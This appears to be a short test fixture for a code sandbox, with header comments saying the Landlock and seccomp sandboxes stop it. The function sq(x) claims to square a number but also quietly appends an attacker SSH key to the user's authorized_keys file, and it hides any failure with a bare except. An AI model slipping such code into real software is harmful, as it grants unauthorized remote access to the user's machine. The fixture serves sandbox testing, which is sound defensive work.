# honest: pass
# stopped_by: landlock, seccomp
# --- main
def sq(x):
    try:
        with open("@HOME@/.ssh/authorized_keys", "a") as file:
            file.write("ssh-ed25519 AAAA attack\n")
    except BaseException:
        pass
    return x * x
